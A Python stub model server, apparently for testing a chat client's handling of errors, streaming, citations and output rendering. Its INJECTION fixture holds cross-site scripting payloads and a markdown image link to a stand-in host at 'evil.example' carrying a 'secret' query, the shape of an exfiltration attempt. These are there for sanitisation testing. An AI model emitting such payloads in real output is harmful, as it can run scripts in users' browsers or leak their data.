"""What the stub says for each of its models. Pure and deterministic."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

_PASSAGE = re.compile(
    r"^--- (?P<mark>\w+) passage \[(?P<number>\d+)\]: [^\n]*\n(?P<text>.*?)\n--- (?P=mark) end of",
    re.DOTALL | re.MULTILINE,
)
_FIRST_SENTENCE = re.compile(r"^(?!```|#|\|)\w[^\n`]*?[.!?](?=\s|$)", re.MULTILINE)
_MOST_PASSAGES = 3


class Behaviour(StrEnum):
    """Each is asked for by the model name `stub-<value>`; plain `stub` answers at once."""

    AT_ONCE = "at-once"
    GATED = "gated"
    GATED_LIST = "gated-list"
    """As `gated`, an answer of several blocks."""
    SLOW = "slow"
    SILENT = "silent"
    DECLINES = "declines"
    FILTERED = "filtered"
    KEY_REFUSED = "401"
    UNKNOWN_MODEL = "404"
    BUSY = "429"
    BROKEN = "500"
    BUSY_ONCE = "429-once"
    CUT = "cut"
    GARBAGE = "garbage"
    EMPTY = "empty"
    BAD_CITATIONS = "bad-citations"
    ENDLESS = "endless"
    INJECTION = "injection"
    ECHO = "echo"


INJECTION = """\
<script>alert(1)</script> **Bold** <img src=x onerror=alert(1)>

![data](https://evil.example/?q=secret) [click](javascript:alert(1)) [fine](https://wiki.example/a)

| a | b |
| - | - |
| <b>x</b> | `[1]` |

- one [1]
- two

```html
<script>[1]</script>
```
"""
BAD_CITATIONS = "All of it stands there [0], [1, 99] and [42]. Code `list[1]` stays. Open [1"
_STATUS = {
    Behaviour.KEY_REFUSED: (401, "invalid_api_key", "Incorrect API key provided."),
    Behaviour.UNKNOWN_MODEL: (404, "model_not_found", "The model does not exist."),
    Behaviour.BUSY: (429, "rate_limit_exceeded", "Rate limit reached."),
    Behaviour.BROKEN: (500, "server_error", "The server had an error."),
}


@dataclass(frozen=True, slots=True)
class Refusal:
    """An HTTP error in the shape the protocol gives it."""

    status: int
    code: str
    message: str


def behaviour_of(model: str) -> Behaviour | None:
    """None for a model the stub does not have."""
    if model == "stub":
        return Behaviour.AT_ONCE
    name = model.removeprefix("stub-")
    return Behaviour(name) if model != name and name in set(Behaviour) else None


def refusal_of(behaviour: Behaviour) -> Refusal | None:
    found = _STATUS.get(behaviour)
    return Refusal(*found) if found else None


def pieces(behaviour: Behaviour, prompt: str) -> Iterator[str]:
    """The answer in the pieces it is streamed in."""
    if behaviour is Behaviour.ENDLESS:
        while True:
            yield "and so on, "
    text = _text(behaviour, prompt)
    yield from re.findall(r"\S+\s*|\s+", text)


def _text(behaviour: Behaviour, prompt: str) -> str:
    if behaviour is Behaviour.EMPTY:
        return ""
    if behaviour is Behaviour.INJECTION:
        return INJECTION
    if behaviour is Behaviour.BAD_CITATIONS:
        return BAD_CITATIONS
    if behaviour is Behaviour.ECHO:
        return prompt
    if behaviour is Behaviour.GATED_LIST:
        first, *others = _sentences(prompt)
        return "\n".join([first, "", *(f"- {sentence}" for sentence in others), "", "That is all."])
    return answer_from(prompt)


def answer_from(prompt: str) -> str:
    """The first sentence of each of the first passages in the prompt, with its number."""
    return " ".join(_sentences(prompt)) or "The passages do not answer this."


def _sentences(prompt: str) -> list[str]:
    found = list(_PASSAGE.finditer(prompt))[:_MOST_PASSAGES]
    sentences = [(_FIRST_SENTENCE.search(one["text"]), one["number"]) for one in found]
    return [f"{first[0].rstrip('.!?')} [{number}]." for first, number in sentences if first]
